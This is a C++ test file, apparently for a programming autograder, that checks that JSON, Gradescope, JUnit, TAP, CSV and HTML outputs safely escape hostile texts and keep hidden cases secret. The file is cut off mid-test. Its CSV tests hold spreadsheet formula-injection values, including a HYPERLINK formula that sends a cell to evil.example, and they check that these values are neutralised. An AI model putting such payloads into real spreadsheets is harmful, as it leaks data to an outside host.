// Tests of the result formats: each is read back by a real consumer (nlohmann for JSON,
// xmllint for JUnit XML, Perl's TAP::Parser for TAP, Python's csv module for the grades)
// with hostile texts from programs in it. With REPORT_PAGE set, the class report page of a
// sample class is also written there, for the browser test.
#include <gtest/gtest.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <vector>

#include "check/formats.hpp"
#include "check/report_page.hpp"

namespace {

namespace fs = std::filesystem;
using check::CaseResult;
using check::SubmissionResult;
using check::Verdict;
using nlohmann::json;

// Texts a program or a case may hold: invalid UTF-8, NUL and other control bytes, markup,
// quotes, escapes, and the characters the formats give a meaning to.
const std::vector<std::string> kHostile = {
    std::string("nul\0inside", 10),
    // NOLINTNEXTLINE(bugprone-suspicious-missing-comma): one text split in two literals
    "\xff\xfe invalid \xc3\x28 utf-8 \xed\xa0\x80 surrogate \xef\xbf\xbf"
    " overlong \xe0\x80\xaf \xc0\xaf beyond \xf4\x90\x80\x80",
    "<script>alert('x')</script> & <b>bold</b> ]]> \"quoted\"",
    "\x01\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f",
    "carriage\rreturn and\ttab",
    "# hash \\ backslash \\# both",
    "line one\nline two\n\n  indented after a blank\n...\n---\n",
    "ünïcode ✓ 𝄞",
};

// A case result with the given name, verdict and message.
CaseResult result(const std::string& name, Verdict v, const std::string& message = "",
                  unsigned points = 1, bool hidden = false) {
    CaseResult r;
    r.name = name;
    r.verdict = v;
    r.message = message;
    r.points = points;
    r.score = v == Verdict::passed ? points : 0;
    r.hidden = hidden;
    r.wall_seconds = 0.25;
    r.cpu_seconds = 0.125;
    r.max_rss_kib = 2048;
    return r;
}

// A submission whose case names and messages are the hostile texts, with failures of
// every kind, an error, and a hidden case.
SubmissionResult hostile_submission() {
    SubmissionResult s;
    s.program = "set<calc>&\"";
    s.submission = std::string("stu\0dent \xff <i>", 14);
    s.build_verdict = "built";
    s.build_message = "warning: \x1b[1munused\x1b[0m <x> & \xfe\n";
    s.seconds = 1.5;
    const std::vector<Verdict> verdicts = {
        Verdict::wrong_output, Verdict::crashed,      Verdict::passed, Verdict::not_started,
        Verdict::time_limit,   Verdict::presentation, Verdict::passed, Verdict::wrong_files};
    for (std::size_t k = 0; k < kHostile.size(); ++k) {
        s.cases.push_back(result(kHostile[k] + " " + std::to_string(k), verdicts[k],
                                 verdicts[k] == Verdict::passed ? "" : kHostile[k],
                                 static_cast<unsigned>(k + 1)));
    }
    s.cases.push_back(result("secret", Verdict::wrong_output, "  SECRET-EXPECTED-TEXT\n", 2, true));
    s.cases.back().score = 0.5;  // presentation credit, as the caller computes it
    return s;
}

// What a command printed and how it exited.
struct Ran {
    int status = -1;
    std::string out;
};

// `command` with every `word` in it replaced by the quoted `path`.
std::string with_path(const std::string& command, const std::string& word, const fs::path& path) {
    std::string cmd;  // built by appending: GCC 12 warns falsely on replace (-Wrestrict)
    std::size_t from = 0;
    for (std::size_t at = 0; (at = command.find(word, from)) != std::string::npos;
         from = at + word.size())
        cmd += command.substr(from, at - from) + "'" + path.string() + "'";
    return cmd + command.substr(from);
}

// Writes `text` to a file (and `script`, when given, to another) in a folder of this call's
// own, runs `command` with "FILE" (and "SCRIPT") replaced by their paths, and returns what
// the command printed on its standard output. Tests run side by side never share a file.
Ran run_on(const std::string& command, const std::string& text, const std::string& script = "") {
    std::string pattern = (fs::temp_directory_path() / "formats_test.XXXXXX").string();
    if (::mkdtemp(pattern.data()) == nullptr) return {};
    const fs::path folder = pattern;
    std::ofstream(folder / "file", std::ios::binary) << text;
    std::ofstream(folder / "script", std::ios::binary) << script;
    const std::string cmd =
        with_path(with_path(command, "SCRIPT", folder / "script"), "FILE", folder / "file");
    Ran ran;
    if (FILE* pipe = popen(cmd.c_str(), "r")) {
        char buffer[4096];
        for (std::size_t n = 0; (n = fread(buffer, 1, sizeof buffer, pipe)) > 0;)
            ran.out.append(buffer, n);
        const int status = pclose(pipe);
        ran.status = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
    }
    fs::remove_all(folder);
    return ran;
}

// True when the file `tool` exists and can be run.
bool have(const char* tool) { return access(tool, X_OK) == 0; }

// The text as nlohmann's replacing dump makes it: invalid bytes become U+FFFD.
std::string as_json_text(const std::string& text) {
    return json::parse(json(text).dump(-1, ' ', false, json::error_handler_t::replace))
        .get<std::string>();
}

TEST(Formats, JsonReadsBackWithEveryCaseAndHostileTexts) {
    const SubmissionResult s = hostile_submission();
    const std::string text = check::to_json(s);
    EXPECT_EQ(text.find('\n'), std::string::npos) << "one line";
    const json j = json::parse(text);  // throws on invalid JSON
    EXPECT_EQ(j["program"], s.program);
    EXPECT_EQ(j["submission"], as_json_text(s.submission));
    EXPECT_DOUBLE_EQ(j["score"].get<double>(), 10.5) << "the passed cases' points and a credit";
    EXPECT_DOUBLE_EQ(j["max_score"].get<double>(), 38.0);
    EXPECT_EQ(j["passed"], 2);
    EXPECT_EQ(j["failed"], 7);
    EXPECT_EQ(j["build"]["verdict"], "built");
    ASSERT_EQ(j["cases"].size(), s.cases.size());
    for (std::size_t k = 0; k < s.cases.size(); ++k) {
        const json& c = j["cases"][k];
        EXPECT_EQ(c["name"], as_json_text(s.cases[k].name)) << k;
        EXPECT_EQ(c["message"], as_json_text(s.cases[k].message)) << k;
        EXPECT_EQ(c["verdict"], check::verdict_word(s.cases[k].verdict)) << k;
        EXPECT_EQ(c["points"], s.cases[k].points);
        EXPECT_EQ(c["kind"], "collection");
        EXPECT_DOUBLE_EQ(c["wall_s"].get<double>(), 0.25);
        EXPECT_DOUBLE_EQ(c["cpu_s"].get<double>(), 0.125);
        EXPECT_EQ(c["max_rss_kib"], 2048);
    }
    // Valid UTF-8 and NUL come back unchanged; the hidden case's message is kept.
    EXPECT_EQ(j["cases"][0]["message"], kHostile[0]);
    EXPECT_EQ(j["cases"][7]["message"], kHostile[7]);
    EXPECT_EQ(j["cases"][8]["message"], "  SECRET-EXPECTED-TEXT\n");
}

TEST(Formats, GradescopeHidesTheMessagesOfHiddenCases) {
    const SubmissionResult s = hostile_submission();
    const json j = json::parse(check::to_gradescope(s));
    EXPECT_DOUBLE_EQ(j["score"].get<double>(), s.score());
    EXPECT_DOUBLE_EQ(j["execution_time"].get<double>(), 1.5);
    EXPECT_NE(j["output"].get<std::string>().find("unused"), std::string::npos);
    EXPECT_NE(j["output"].get<std::string>().find("2 of 9 cases passed"), std::string::npos);
    ASSERT_EQ(j["tests"].size(), s.cases.size());
    for (std::size_t k = 0; k < s.cases.size(); ++k) {
        const json& t = j["tests"][k];
        const CaseResult& r = s.cases[k];
        EXPECT_EQ(t["name"], as_json_text(r.name));
        EXPECT_DOUBLE_EQ(t["score"].get<double>(), r.score);
        EXPECT_EQ(t["max_score"], r.points);
        EXPECT_EQ(t["status"], r.verdict == Verdict::passed ? "passed" : "failed");
        EXPECT_EQ(t["visibility"], r.hidden ? "hidden" : "visible");
        const std::string output = t["output"];
        EXPECT_EQ(output.rfind(check::verdict_word(r.verdict), 0), 0U) << output;
        EXPECT_DOUBLE_EQ(t["extra_data"]["cpu_s"].get<double>(), r.cpu_seconds);
        EXPECT_EQ(t["extra_data"]["max_rss_kib"], r.max_rss_kib);
    }
    EXPECT_EQ(j["extra_data"]["sandbox"], "none");
    EXPECT_EQ(j["tests"][8]["output"], "wrong-output");
    EXPECT_EQ(j.dump().find("SECRET"), std::string::npos);

    SubmissionResult plain;
    plain.cases = {result("a", Verdict::passed)};
    EXPECT_EQ(json::parse(check::to_gradescope(plain))["output"],
              "1 of 1 cases passed, score 1 of 1");
}

TEST(Formats, JunitIsWellFormedAndCountsFailuresAndErrors) {
    if (!have("/usr/bin/xmllint")) GTEST_SKIP() << "xmllint (libxml2-utils) is not installed";
    const SubmissionResult s = hostile_submission();
    const std::string xml = check::to_junit(s);
    const Ran lint = run_on("/usr/bin/xmllint --noout FILE 2>&1", xml);
    ASSERT_EQ(lint.status, 0) << lint.out << xml;
    struct Row {
        std::string xpath, value;
    };
    const std::vector<Row> rows = {
        {"count(/testsuites/testsuite)", "1"},
        {"count(//testcase)", "9"},
        {"string(//testsuite/@tests)", "9"},
        {"string(//testsuite/@failures)", "6"},
        {"string(//testsuite/@errors)", "1"},
        {"string(//testsuite/@skipped)", "0"},
        {"string(//testsuite/@time)", "1.500"},
        {"count(//testcase/failure)", "6"},
        {"count(//testcase/error)", "1"},
        {"string(//testcase[4]/error/@type)", "not-started"},
        {"string(//testcase[2]/failure/@message)", "crashed"},
        {"string(//testcase[1]/@time)", "0.250"},
        {"string(//testcase[3]/@name)",
         "<script>alert('x')</script> & <b>bold</b> ]]> \"quoted\" 2"},
        {"string(//testcase[1]/@classname)", "set<calc>&\""},
        {"string(//testsuite/@name)", "set<calc>&\" (stu\\x00dent \\xff <i>)"},
        {"string(//testcase[9]/failure)", ""},
        {"string(//testcase[9]/failure/@message)", "wrong-output"},
        {"string(//testcase[7]/@name)",
         "line one\nline two\n\n  indented after a blank\n...\n---\n 6"},
        {"contains(//testcase[5]/failure, 'carriage\\x0dreturn and\ttab')", "true"},
        {"contains(/testsuites/testsuite/system-out, 'unused')", "true"},
        // Each case's measures, and the wall that held the runs (none: nothing was run).
        {"contains(//testcase[1]/system-out, 'processor 0.')", "true"},
        {"contains(//testcase[9]/system-out, 'KiB')", "true"},
        {"string(//testsuite/properties/property[@name='sandbox']/@value)", "none"},
    };
    for (const Row& row : rows) {
        const Ran got = run_on("/usr/bin/xmllint --xpath \"" + row.xpath + "\" FILE", xml);
        EXPECT_EQ(got.out, row.value + "\n") << row.xpath;
    }
    EXPECT_EQ(xml.find("SECRET"), std::string::npos);
}

// A Perl program that reads TAP with TAP::Parser and prints, for each test, a JSON object
// {"ok", "number", "description", "directive", "yaml"}, then {"plan", "errors"}. TAP::Parser 3.44
// knows versions up to 13 and reports "version 14" as its one parse error, reading the rest as
// version 13 (which version 14 extends): that error alone is left out.
const char* kTapReader = R"perl(
use strict; use warnings; use TAP::Parser; use JSON::PP;
open my $f, '<:raw', $ARGV[0] or die; my $tap = do { local $/; <$f> };
my $p = TAP::Parser->new({ tap => $tap }); my $js = JSON::PP->new->canonical;
my ($last, @tests, $version);
while (my $r = $p->next) {
  if ($r->is_version) { $version = $r->version }
  elsif ($r->is_test) { $last = { ok => ($r->is_ok ? 1 : 0), number => $r->number,
                                  description => $r->description,
                                  directive => $r->directive }; push @tests, $last }
  elsif ($r->is_yaml) { $last->{yaml} = $r->data }
}
my @errors = grep { !/specified version 14 but we don't know/ } $p->parse_errors;
print $js->encode({ version => $version, plan => $p->plan, tests => \@tests,
                    errors => \@errors }), "\n";
)perl";

// The TAP text as TAP::Parser reads it.
json read_tap(const std::string& tap) {
    const Ran ran = run_on("/usr/bin/perl SCRIPT FILE", tap, kTapReader);
    return json::parse(ran.out, nullptr, false);
}

TEST(Formats, TapIsReadByTapParserWithItsYamlBlocks) {
    if (!have("/usr/bin/perl") || std::system("/usr/bin/perl -MTAP::Parser -MJSON::PP -e 1") != 0)
        GTEST_SKIP() << "Perl's TAP::Parser is not installed";
    const SubmissionResult s = hostile_submission();
    const std::string tap = check::to_tap(s);
    EXPECT_EQ(tap.rfind("TAP version 14\n1..9\n", 0), 0U) << tap;
    const json got = read_tap(tap);
    ASSERT_TRUE(got.is_object()) << tap;
    EXPECT_EQ(got["version"], "14");
    EXPECT_EQ(got["plan"], "1..9");
    EXPECT_TRUE(got["errors"].empty()) << got["errors"].dump() << tap;
    ASSERT_EQ(got["tests"].size(), 9U) << tap;
    for (std::size_t k = 0; k < s.cases.size(); ++k) {
        const json& t = got["tests"][k];
        const bool passed = s.cases[k].verdict == Verdict::passed;
        EXPECT_EQ(t["ok"], passed ? 1 : 0) << k;
        EXPECT_EQ(t["number"], k + 1);
        EXPECT_EQ(t["directive"], "") << "a '#' in a name starts no directive";
        EXPECT_EQ(t.contains("yaml"), !passed) << k;
        if (!passed) {
            EXPECT_EQ(t["yaml"]["verdict"], check::verdict_word(s.cases[k].verdict));
            EXPECT_TRUE(t["yaml"].contains("cpu_s") && t["yaml"].contains("max_rss_kib")) << k;
        }
    }
    // A description keeps '#' escaped (else it would start a directive) and shows
    // control bytes; a hidden case shows no message.
    EXPECT_EQ(got["tests"][5]["description"], R"(- \# hash \\ backslash \\\# both 5)")
        << "TAP::Parser keeps the escapes in the description";
    EXPECT_EQ(tap.find("SECRET"), std::string::npos);
    EXPECT_EQ(got["tests"][8]["yaml"]["hidden"], "true");
}

TEST(Formats, TapMessagesComeBackWhateverTheirShape) {
    if (!have("/usr/bin/perl") || std::system("/usr/bin/perl -MTAP::Parser -MJSON::PP -e 1") != 0)
        GTEST_SKIP() << "Perl's TAP::Parser is not installed";
    struct Row {
        std::string message, read;  // as given, as read back from the YAML block
    };
    const std::vector<Row> rows = {
        {"  standard output differs\n  > 1: abc$\n", "standard output differs\n> 1: abc$\n"},
        {"    deeper first\n  then less\n", "  deeper first\nthen less"},
        {"  a\n\n  b after a blank\n", "a\n\nb after a blank\n"},
        {"  ...\n  ---\n", "...\n---"},
        {"  tab\tinside and \"quotes\" \\ back\n", "tab\tinside and \"quotes\" \\ back\n"},
        {std::string("  nul \0 esc \x1b cr \r bad \xff\n", 24),
         "nul \\x00 esc \\x1b cr \\x0d bad \\xff\n"},
        {"  ünïcode ✓\n", "ünïcode ✓\n"},
        {"\tstarts with a tab\n", "\tstarts with a tab"},
    };
    for (const Row& row : rows) {
        SubmissionResult s;
        s.cases = {result("c", Verdict::wrong_output, row.message)};
        const std::string tap = check::to_tap(s);
        const json got = read_tap(tap);
        ASSERT_TRUE(got.is_object()) << tap;
        EXPECT_TRUE(got["errors"].empty()) << got["errors"].dump() << tap;
        EXPECT_EQ(got["tests"][0]["yaml"]["message"], row.read) << tap;
    }
}

TEST(Formats, EveryFormatCarriesTheInputFedOfVisibleCasesOnly) {
    SubmissionResult s;
    s.program = "setcalc";
    s.submission = "ann";
    CaseResult failing = result("random-1", Verdict::wrong_output, "  differs\n");
    failing.fed = "3\n1 2 3\n\"q\" \\ end\n";
    failing.want = check::keep("{1,2,3}\n");
    failing.got = check::keep("{1,2}\n");
    failing.help = "  to replay it: printf '3\\n' | ./setcalc\n";
    CaseResult passed = result("random-2", Verdict::passed);
    passed.fed = "5\n";
    CaseResult hidden = result("secret", Verdict::wrong_output, "  SECRET\n", 1, true);
    hidden.fed = "SECRET-INPUT\n";
    s.cases = {failing, passed, hidden};

    const json j = json::parse(check::to_json(s));
    EXPECT_EQ(j["cases"][0]["input"], failing.fed);
    EXPECT_EQ(j["cases"][0]["expected"], "{1,2,3}\n");
    EXPECT_EQ(j["cases"][0]["actual"], "{1,2}\n");
    EXPECT_EQ(j["cases"][1]["input"], "5\n");
    EXPECT_FALSE(j["cases"][1].contains("expected")) << "a passed case's output is the expected";
    EXPECT_FALSE(j["cases"][2].contains("input")) << "a hidden case's input stays hidden";

    const std::vector<std::pair<std::string, std::string>> formats = {
        {"gradescope", check::to_gradescope(s)},
        {"junit", check::to_junit(s)},
        {"tap", check::to_tap(s)},
    };
    for (const auto& [name, text] : formats) {
        SCOPED_TRACE(name);
        EXPECT_EQ(text.find("SECRET-INPUT"), std::string::npos);
    }
    EXPECT_NE(json::parse(formats[0].second)["tests"][0]["output"].get<std::string>().find(
                  "to replay it: printf"),
              std::string::npos);
    EXPECT_NE(formats[1].second.find("input fed:\n3\n1 2 3\n&quot;q&quot; \\ end\n"),
              std::string::npos)
        << formats[1].second;
    if (have("/usr/bin/perl") && std::system("/usr/bin/perl -MTAP::Parser -MJSON::PP -e 1") == 0) {
        const json tap = read_tap(formats[2].second);
        EXPECT_EQ(tap["tests"][0]["yaml"]["input"], failing.fed) << formats[2].second;
    }
}

TEST(Formats, GradesCsvHasOneColumnPerCaseOfTheWholeClass) {
    if (!have("/usr/bin/python3")) GTEST_SKIP() << "python3 is not installed";
    SubmissionResult a, b, c;
    a.submission = "ann, \"the\" first";
    a.cases = {result("one", Verdict::passed, "", 2), result("two", Verdict::wrong_output)};
    b.submission = "bob";
    b.build_verdict = "compile-error";
    b.cases = {result("two", Verdict::compile_error), result("three,\n\"odd\"", Verdict::passed)};
    c.submission = "cy";
    c.build_verdict = "built";
    const std::string csv = check::grades_csv({a, b, c});
    const Ran ran =
        run_on("/usr/bin/python3 -c 'import csv,json,sys; "
               "print(json.dumps(list(csv.reader(open(sys.argv[1], newline=\"\")))))' FILE",
               csv);
    const json rows = json::parse(ran.out);
    const json want = {
        {"name", "score", "max_score", "percent", "build", "one", "two", "three,\n\"odd\""},
        {"ann, \"the\" first", "2", "3", "66.7", "executable", "passed", "wrong-output", ""},
        {"bob", "1", "2", "50.0", "compile-error", "", "compile-error", "passed"},
        {"cy", "0", "0", "0.0", "built", "", "", ""},
    };
    EXPECT_EQ(rows, want) << csv;
}

TEST(Formats, GradesCsvHoldsNoFormulaAndNoControlByte) {
    if (!have("/usr/bin/python3")) GTEST_SKIP() << "python3 is not installed";
    struct Row {
        std::string name, read;  // the student's folder, the cell a spreadsheet reads
    };
    const std::vector<Row> rows = {
        {"=HYPERLINK(\"http://evil.example?\"&A1,\"Click for grade\")",
         "'=HYPERLINK(\"http://evil.example?\"&A1,\"Click for grade\")"},
        {"+1+1", "'+1+1"},
        {"-2+3", "'-2+3"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\t=1", "'\t=1"},
        {"\r=1", "'\\x0d=1"},
        {"esc\x1b[31m", "esc\\x1b[31m"},
        {"rlo \xe2\x80\xae"
         "001",
         "rlo \\u202e001"},
        {"ann=1", "ann=1"},
    };
    std::vector<SubmissionResult> all;
    for (const Row& r : rows) {
        SubmissionResult s;
        s.submission = r.name;
        s.cases = {result("-case", Verdict::passed, "", 3)};
        all.push_back(s);
    }
    const std::string csv = check::grades_csv(all);
    EXPECT_EQ(csv.find('\x1b'), std::string::npos);
    EXPECT_EQ(csv.find("\xe2\x80\xae"), std::string::npos);
    const Ran ran =
        run_on("/usr/bin/python3 -c 'import csv,json,sys; "
               "print(json.dumps(list(csv.reader(open(sys.argv[1], newline=\"\")))))' FILE",
               csv);
    const json read = json::parse(ran.out);
    ASSERT_EQ(read.size(), rows.size() + 1) << csv;
    EXPECT_EQ(read[0][5], "'-case") << "a case's name is a text cell too";
    for (std::size_t k = 0; k < rows.size(); ++k) {
        EXPECT_EQ(read[k + 1][0], rows[k].read) << csv;
        EXPECT_EQ(read[k + 1][1], "3") << "a score stays a number";
    }
}

TEST(Formats, FileNamesNeverCollide) {
    const std::vector<std::vector<std::string>> classes = {
        {"kim_lee", "kim\x7flee"},
        {"kim\x7flee", "kim\x01lee", "kim/lee", "kim_lee"},
        {"a", "a-2", "a\x01", "a\x02"},
        {".", "..", "_.", ".hidden", ""},
        {std::string(300, 'x'), std::string(300, 'x') + "y"},
        {"r\xe2\x80\xae"
         "lo",
         "r_lo",
         "r\xff"
         "lo"},
        {"é", "ü"},
    };
    for (const auto& names : classes) {
        const std::vector<std::string> files = check::file_names(names);
        ASSERT_EQ(files.size(), names.size());
        std::vector<std::string> sorted = files;
        std::sort(sorted.begin(), sorted.end());
        EXPECT_EQ(std::adjacent_find(sorted.begin(), sorted.end()), sorted.end())
            << "two names share a file: " << names.front();
        for (const std::string& f : files) {
            EXPECT_FALSE(f.empty() || f.front() == '.') << f;
            EXPECT_EQ(f.find('/'), std::string::npos) << f;
            EXPECT_LE(f.size() + 4, 255U) << "a file name with .txt fits";
            EXPECT_EQ(check::visible_text(f, check::Shown::name), f) << "plain characters only";
        }
    }
    // A name that collides with none keeps its plain form, and the same class gives the
    // same names every time.
    EXPECT_EQ(check::file_names({"ann", "kim_lee", "kim\x7flee"})[0], "ann");
    EXPECT_EQ(check::file_names({"kim_lee", "kim\x7flee"}),
              check::file_names({"kim_lee", "kim\x7flee"}));
}

TEST(Formats, EveryOutputShowsControlsAndBidiEscaped) {
    SubmissionResult s;
    s.program = "setcalc";
    s.submission = "mallory\xe2\x80\xae"
                   "0/01\x1b[2J\xc2\x9b";
    s.build_verdict = "built";
    s.build_message = "main.c:1: warning: \xc2\x9b"
                      "31m \xe2\x81\xa6 \x1b]0;title\x07\n";
    s.cases = {result("case\xe2\x80\xae", Verdict::wrong_output, "  got \xe2\x80\xad\x1b[1m\n")};
    const std::vector<std::pair<std::string, std::string>> outputs = {
        {"json", check::to_json(s)},       {"gradescope", check::to_gradescope(s)},
        {"junit", check::to_junit(s)},     {"tap", check::to_tap(s)},
        {"csv", check::grades_csv({s})},   {"feedback", check::feedback_text(s)},
        {"html", check::report_html({s})},
    };
    for (const auto& [what, text] : outputs) {
        for (const char* raw :
             {"\x1b", "\x07", "\xc2\x9b", "\xe2\x80\xae", "\xe2\x80\xad", "\xe2\x81\xa6"})
            EXPECT_EQ(text.find(raw), std::string::npos) << what << " holds a raw control";
        EXPECT_NE(text.find("202e"), std::string::npos) << what << " hides the override";
    }
    // JSON readers still get the very text back.
    EXPECT_EQ(json::parse(check::to_json(s))["submission"], s.submission);
}

TEST(Formats, FeedbackShowsVisibleDifferencesOnly) {
    SubmissionResult s;
    s.build_verdict = "built";
    s.build_message = "main.cpp:3: warning: unused variable";
    s.cases = {result("visible", Verdict::wrong_output, "  want 1\n  got 2\n"),
               result("fine", Verdict::passed),
               result("secret", Verdict::crashed, "  SECRET-EXPECTED-TEXT\n", 3, true),
               result("secret-ok", Verdict::passed, "", 1, true)};
    s.cases[1].score = 1;
    EXPECT_EQ(check::feedback_text(s),
              "build: built\nmain.cpp:3: warning: unused variable\n\n"
              "visible FAILED (wrong-output)\n  want 1\n  got 2\n"
              "fine ok\n"
              "secret FAILED (crashed)\n"
              "  (a hidden case: its input and expected output are not shown)\n"
              "secret-ok ok\n"
              "score: 2 of 6\n");
    s.build_message.clear();
    EXPECT_EQ(check::feedback_text(s).rfind("visible FAILED", 0), 0U);
}

TEST(Formats, FeedbackShowsARepeatedFailureOnceThenNamesIt) {
    struct Row {
        std::string name;
        Verdict verdict;
        std::string key, message;
        bool hidden;
        std::string said;  // what its lines in the feedback hold
    };
    const std::string blank = "wrong-output" + std::string(1, '\0') + "Enter: \nEnter:\n";
    const std::vector<Row> rows = {
        {"first", Verdict::wrong_output, blank, "  around line 3\n", false, "  around line 3\n"},
        {"again", Verdict::wrong_output, blank, "  around line 9\n", false,
         "  the same difference as first\n  HELP again\n"},
        {"hidden", Verdict::wrong_output, "other", "  SECRET\n", true, "(a hidden case"},
        {"after-hidden", Verdict::wrong_output, "other", "  other words\n", false,
         "  other words\n"},
        {"crash", Verdict::crashed, "", "  signal 11\n", false, "  signal 11\n"},
        {"crash-again", Verdict::crashed, "", "  signal 11\n", false,
         "  the same failure as crash\n"},
        {"crash-other", Verdict::crashed, "", "  signal 6\n", false, "  signal 6\n"},
    };
    SubmissionResult s;
    s.build_verdict = "executable";
    for (const Row& r : rows) {
        s.cases.push_back(result(r.name, r.verdict, r.message, 1, r.hidden));
        s.cases.back().key = r.key;
        if (!r.hidden) s.cases.back().help = "  HELP " + r.name + "\n";
    }
    const std::string text = check::feedback_text(s);
    for (std::size_t k = 0; k < rows.size(); ++k) {
        const std::size_t from = text.find(rows[k].name + " FAILED");
        const std::size_t to =
            k + 1 < rows.size() ? text.find(rows[k + 1].name + " FAILED") : text.size();
        ASSERT_NE(from, std::string::npos) << text;
        EXPECT_NE(text.substr(from, to - from).find(rows[k].said), std::string::npos)
            << rows[k].name << ":\n"
            << text;
    }
    EXPECT_EQ(text.find("around line 9"), std::string::npos) << "repeated: " << text;
    EXPECT_EQ(text.find("SECRET"), std::string::npos) << text;
    // The teacher's page names it too, rather than repeating it.
    const std::string page = check::report_html({s});
    EXPECT_EQ(page.find("around line 9"), std::string::npos);
    EXPECT_NE(page.find("the same failure as <span class=\"name\">first</span>"),
              std::string::npos);
}

TEST(Formats, ASubmissionThatCannotRunNamesItsCasesOnce) {
    struct Row {
        std::string build, message;
        Verdict verdict;
        bool listed;  // the cases named once rather than each said
    };
    const std::vector<Row> rows = {
        {"compile-error", "main.c:1: error: x undeclared\n", Verdict::compile_error, true},
        {"missing", "no executable named setcalc and no C or C++ source: an empty folder\n",
         Verdict::not_started, true},
        {"refused", "the student's folder is a symbolic link\n", Verdict::not_started, true},
        {"built", "", Verdict::not_started, false},
    };
    for (const Row& r : rows) {
        SubmissionResult s;
        s.program = "setcalc";
        s.submission = "bob";
        s.build_verdict = r.build;
        s.build_message = r.message;
        for (const char* name : {"one", "two", "three"})
            s.cases.push_back(result(name, r.verdict, "  the submission could not be built\n"));
        const std::string text = check::feedback_text(s);
        EXPECT_EQ(
            text.find("no case could run (3 cases):\n  one, two, three\n") != std::string::npos,
            r.listed)
            << text;
        EXPECT_EQ(text.find("FAILED") == std::string::npos, r.listed) << text;
        std::string head = "build: ";
        head += r.build;
        head += '\n';
        head += r.message;
        if (r.listed) {
            EXPECT_EQ(text.rfind(head, 0), 0U) << text;
        }
        EXPECT_EQ(check::report_html({s}).find("no case could run (3 cases)") != std::string::npos,
                  r.listed);
        // The machine formats keep every case.
        EXPECT_EQ(json::parse(check::to_json(s))["cases"].size(), 3U);
        EXPECT_EQ(json::parse(check::to_gradescope(s))["tests"].size(), 3U);
        std::string row = ",";
        for (int k = 0; k < 3; ++k) {
            row += check::verdict_word(r.verdict);
            row += k < 2 ? "," : "\r\n";
        }
        EXPECT_NE(check::grades_csv({s}).find(row), std::string::npos) << check::grades_csv({s});
    }
    // Many cases wrap, and no line is wider than the page.
    std::vector<std::string> names(30, "a_case_with_a_rather_long_name");
    std::istringstream in(check::not_run_lines(names));
    for (std::string line; std::getline(in, line);) EXPECT_LE(line.size(), 78U) << line;
}

TEST(Formats, TimeLimitsAreTracedToTheLineOnlyTheyFeed) {
    struct Fed {
        Verdict verdict;
        std::string input;
        bool hidden;
    };
    struct Row {
        std::vector<Fed> cases;
        std::string clue;  // "" for none
    };
    const Verdict T = Verdict::time_limit, P = Verdict::passed, W = Verdict::wrong_output;
    const std::vector<Row> rows = {
        {{{T, "3\n1 2 3\n2\n5\n", false}, {T, "1\n7\n2\n5\n", false}, {P, "1\n5\n", false}},
         "every case that ran out of time feeds the line 2; no case that passed does\n"},
        // Only one ran out of time: nothing shared to name.
        {{{T, "2\n", false}, {P, "1\n", false}}, ""},
        // No case passed: nothing to tell the line from.
        {{{T, "2\n", false}, {T, "2\n", false}, {W, "1\n", false}}, ""},
        // A passing case feeds it too.
        {{{T, "2\n5\n", false}, {T, "2\n5\n", false}, {P, "2\n5\n", false}}, ""},
        {{{T, "2\n7\n5\n", false}, {T, "7\n2\n5", false}, {P, "5\n", false}},
         "every case that ran out of time feeds the lines 2 and 7; no case that passed feeds any "
         "of them\n"},
        // A hidden case's input is never looked at.
        {{{T, "2\n", false}, {T, "", true}, {P, "1\n", false}}, ""},
        {{{T, "1 2\n\n", false}, {T, "\n1 2\n", false}, {P, "1\n", false}},
         "every case that ran out of time feeds the lines 1·2 and an empty line; no case that "
         "passed feeds any of them\n"},
    };
    for (const Row& r : rows) {
        SubmissionResult s;
        for (const Fed& f : r.cases) {
            s.cases.push_back(result(std::to_string(s.cases.size()), f.verdict, "", 1, f.hidden));
            if (!f.hidden) s.cases.back().fed = f.input;
        }
        EXPECT_EQ(check::time_limit_clue(s), r.clue) << r.cases.front().input;
        if (!r.clue.empty()) {
            const std::string text = check::feedback_text(s);
            EXPECT_EQ(text.find(r.clue), text.rfind(r.clue)) << "said once";
            EXPECT_NE(text.find(r.clue), std::string::npos) << text;
        }
    }
}

TEST(Formats, GradebooksCarryThePlatformsIdentityColumns) {
    auto student = [](const std::string& name, const std::string& id, std::optional<bool> late,
                      Verdict v, const std::string& build) {
        SubmissionResult s;
        s.program = "setcalc";
        s.submission = name;
        s.student_id = id;
        s.late = late;
        s.build_verdict = build;
        s.cases = {result("one", v), result("two", Verdict::passed)};
        return s;
    };
    struct Row {
        std::string name;
        std::vector<SubmissionResult> all;
        std::string csv, moodle, canvas;  // a part of each, or "" for none
    };
    const std::vector<Row> rows = {
        {"folders: no identity columns",
         {student("ann", "", std::nullopt, Verdict::passed, "built")},
         "name,score,max_score,percent,build,one,two\r\nann,2,2,",
         "",
         ""},
        {"Moodle: an id, no late mark",
         {student("Doe, Jane", "101", std::nullopt, Verdict::wrong_output, "built"),
          student("Cy", "103", std::nullopt, Verdict::not_started, "missing")},
         "name,id,score,max_score,percent,build,one,two\r\n\"Doe, Jane\",101,1,2,",
         "Participant 101,\"Doe, Jane\",,\"Submitted for grading\",1,2,Yes,-,-,"
         "\"1 of 2 cases passed, score 1 of 2\"\r\nParticipant 103,Cy,,\"No submission\",1,2,",
         "\"Doe, Jane\",101,,,,1\r\n"},
        {"Canvas: an id and a late mark",
         {student("doejane", "12345", false, Verdict::passed, "built"),
          student("smithbob", "222", true, Verdict::crashed, "built")},
         "name,id,late,score,max_score,percent,build,one,two\r\ndoejane,12345,,2,2,100.0,"
         "built,passed,passed\r\nsmithbob,222,late,1,2,",
         "",
         "Student,ID,SIS User ID,SIS Login ID,Section,setcalc\r\n    Points Possible,,,,,2\r\n"
         "doejane,12345,,,,2\r\nsmithbob,222,,,,1\r\n"},
        {"a formula in a name stays text",
         {student("=HYPERLINK(1)", "7", std::nullopt, Verdict::passed, "built")},
         "'=HYPERLINK(1),7,2,2,",
         "Participant 7,'=HYPERLINK(1),",
         "'=HYPERLINK(1),7,,,,2"},
    };
    for (const Row& r : rows) {
        const std::string csv = check::grades_csv(r.all);
        EXPECT_NE(csv.find(r.csv), std::string::npos) << r.name << ":\n" << csv;
        const std::string moodle = check::moodle_worksheet(r.all);
        EXPECT_EQ(
